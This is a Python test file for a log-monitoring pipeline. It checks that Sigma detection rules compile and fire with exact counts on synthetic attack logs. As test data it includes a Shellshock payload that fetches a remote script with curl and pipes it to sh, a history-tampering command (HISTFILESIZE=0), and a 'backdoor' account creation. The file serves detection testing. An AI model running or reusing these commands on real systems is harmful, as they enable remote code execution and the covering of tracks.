"""Sigma compilation and detection: our rules, the sample rules, exact counts on known attacks."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from lakthan.monitoring.pipeline import parsers
from lakthan.monitoring.pipeline.detect import detect
from lakthan.monitoring.pipeline.rules import compile_texts

from .gen import known_attacks

RULES = Path(__file__).resolve().parents[2] / "src" / "lakthan" / "monitoring" / "rules"
SAMPLES = Path("/work/shared/testdata/sigma")
if not SAMPLES.exists():
    SAMPLES = Path(__file__).resolve().parents[3] / "shared" / "testdata" / "sigma"


def _sources(*dirs):
    return [(str(p), p.read_text()) for d in dirs for p in sorted(d.rglob("*.yml"))]


def _events():
    syslog, web = known_attacks()
    a = parsers.parse(syslog, "syslog").events
    b = parsers.parse(web, "nginx", host="web01").events
    df = pl.concat([a, b])
    return df.with_columns(
        pl.lit(1, dtype=pl.Int64).alias("segment"), pl.int_range(pl.len(), dtype=pl.Int64).alias("position")
    )


def test_our_rules_and_the_sample_rules_all_compile():
    rs = compile_texts(_sources(RULES, SAMPLES), {"disabled_accounts": ["former01"]})
    assert rs.errors == []
    assert len(rs.rules) == 6 + 21 and len(rs.correlations) == 1


def test_detection_counts_on_known_attacks_are_exact():
    rs = compile_texts(_sources(RULES, SAMPLES), {"disabled_accounts": ["former01"]})
    alerts = detect(_events(), rs)
    got = {(a["rule_title"], a["host"]): a["count"] for a in alerts}
    expected = {
        ("SSH brute force (10 or more failed logins from one address in 5 minutes)", "web01"): 12,
        ("SSH brute force (10 or more failed logins from one address in 5 minutes)", "db01"): 15,
        ("Login outside office hours", "db01"): 2,
        ("Login outside office hours", "web01"): 1,
        ("Account created or granted sudo", "db01"): 2,
        ("Privileged User Has Been Created", "db01"): 1,
        ("Log or shell history cleared", "db01"): 1,
        ("Commands to Clear or Remove the Syslog - Builtin", "db01"): 1,
        ("Access by a disabled account", "web01"): 1,
        ("Web attack in access logs", "web01"): 3,
        ("Windows WebDAV User Agent", "web01"): 1,
        ("Download From Suspicious TLD - Whitelist", "web01"): 1,  # tool.exe, host not whitelisted
    }
    expected = {k: v for k, v in expected.items() if v}
    assert got == expected
    brute = next(a for a in alerts if a["host"] == "db01" and a["rule_title"].startswith("SSH brute"))
    assert brute["rule_id"] == "2d6a4b37-8a1c-4e0a-bb3e-7d5b0f3f9a01" and brute["level"] == "high"
    assert len(brute["events"]) == 15 and all(set(e) == {"segment", "position"} for e in brute["events"])


def test_a_bad_rule_is_reported_and_the_others_still_load():
    bad = [
        (
            "bad/windows.yml",
            "title: w\nid: 5d0f6a0e-0000-4000-8000-000000000001\nlogsource: {product: windows}\ndetection: {sel: {Image: x}, condition: sel}\n",
        ),
        (
            "bad/field.yml",
            "title: f\nid: 5d0f6a0e-0000-4000-8000-000000000002\nlogsource: {product: linux}\ndetection: {sel: {ParentImage: x}, condition: sel}\n",
        ),
        ("bad/yaml.yml", "title: [unclosed\n"),
        (
            "bad/pipe.yml",
            "title: p\nid: 5d0f6a0e-0000-4000-8000-000000000003\nlogsource: {product: linux}\ndetection: {sel: {msg: x}, condition: 'sel | count() > 5'}\n",
        ),
    ]
    rs = compile_texts(_sources(RULES) + bad)
    reasons = dict(rs.errors)
    assert sorted(reasons) == ["bad/field.yml", "bad/pipe.yml", "bad/windows.yml", "bad/yaml.yml"]
    assert "windows" in reasons["bad/windows.yml"] and "ParentImage" in reasons["bad/field.yml"]
    assert "pipe" in reasons["bad/pipe.yml"]
    assert len(rs.rules) == 6


@pytest.mark.parametrize(
    "detection, matches",
    [
        ("{sel: {msg|re: 'Failed .* from 203\\.'}, condition: sel}", 12),
        ("{sel: {src_ip|cidr: 203.0.113.0/24}, condition: sel}", 12),
        ("{sel: {msg|contains|all: [failed, root]}, condition: sel}", 12),
        ("{sel: {msg|startswith: 'invalid user guest1'}, condition: sel}", 6),
        ("{sel: {msg|endswith: 'ssh2'}, f: {action: ssh_failed}, condition: sel and not f}", 204),
        ("{a_1: {user: backdoor}, a_2: {app: useradd}, condition: all of a_*}", 1),
        ("{k: ['*port 41?? *'], condition: k}", 0),
        ("{k: ['port 41?? '], condition: k}", 0),
    ],
)
def test_modifiers_and_conditions(detection, matches):
    text = f"title: t\nid: 5d0f6a0e-0000-4000-8000-0000000000aa\nlogsource: {{product: linux}}\ndetection: {detection}\nlevel: low\n"
    rs = compile_texts([("t.yml", text)])
    assert rs.errors == []
    alerts = detect(_events(), rs)
    assert sum(a["count"] for a in alerts) == matches


def test_a_regex_polars_cannot_run_is_reported_not_raised_at_detection():
    rule = """title: {title}
id: {id}
logsource: {{product: linux}}
detection:
  sel: {{message|re: '{rx}'}}
  condition: sel
"""
    bad = rule.format(title="bad", id="11111111-1111-1111-1111-111111111111", rx="(?i).. { :")
    good = rule.format(title="good", id="22222222-2222-2222-2222-222222222222", rx="Failed .* root")
    rs = compile_texts([("bad.yml", bad), ("good.yml", good)])
    assert [path for path, _ in rs.errors] == ["bad.yml"] and "regular expression" in rs.errors[0][1]
    events = parsers.parse(
        ["<38>1 2013-01-05T10:00:00Z h sshd 1 - - Failed password for root from 10.0.0.1"]
    ).events
    events = events.with_columns(pl.lit(1).alias("segment"), pl.lit(0).alias("position"))
    assert [a["rule_title"] for a in detect(events, rs)] == ["good"]


# Lines whose header no parser reads, each carrying what a SigmaHQ keyword rule names: a sender with
# a broken clock (hour 25), an unknown month, no host field, invalid UTF-8 — or an attacker who
# malformed the header on purpose. Their headers must hide nothing from detection or search.
SHELLSHOCK = "() { :; }; /bin/bash -c 'curl http://203.0.113.9/x | sh'"
SSHD_ERROR = "fatal: buffer_get_string: bad string"
HISTORY = "export HISTFILESIZE=0"
MALFORMED = [
    f"<38>Jan  5 25:00:00 web01 sshd[1]: {SHELLSHOCK}".encode(),
    f"<38>Foo  5 10:00:00 web01 sshd[2]: {SSHD_ERROR}".encode(),
    f"<38>Jan  5 10:00:00 {HISTORY}".encode(),  # no host, no program
    b"<38>Jan  5 10:00:\xff\xfe web01 sshd[3]: " + SHELLSHOCK.encode(),  # invalid UTF-8 in the header
]
PARSED = [
    f"<38>Jan  5 10:00:01 web01 sshd[1]: {SHELLSHOCK}".encode(),
    f"<38>Jan  5 10:00:02 web01 sshd[2]: {SSHD_ERROR}".encode(),
    f"<38>Jan  5 10:00:03 web01 bash[4]: {HISTORY}".encode(),
    b"<38>Jan  5 10:00:04 web01 sshd[3]: " + SHELLSHOCK.encode(),
]
KEYWORD_RULES = {
    "Shellshock Expression": 2,
    "Suspicious OpenSSH Daemon Error": 1,
    "Linux Command History Tampering": 1,
}


@pytest.mark.parametrize("header", ["parsed", "not parsed"])
def test_keyword_rules_find_what_lines_carry_whether_or_not_their_header_parses(header):
    lines = PARSED if header == "parsed" else MALFORMED
    events = parsers.parse_bytes(b"\n".join(lines), "syslog", year=2013).events
    assert events["parsed"].to_list() == [header == "parsed"] * 4
    events = events.with_columns(
        pl.lit(1, dtype=pl.Int64).alias("segment"), pl.int_range(pl.len(), dtype=pl.Int64).alias("position")
    )
    rs = compile_texts(_sources(SAMPLES))
    counts: dict[str, int] = {}
    for a in detect(events, rs):
        counts[a["rule_title"]] = counts.get(a["rule_title"], 0) + a["count"]
    assert {t: counts.get(t, 0) for t in KEYWORD_RULES} == KEYWORD_RULES
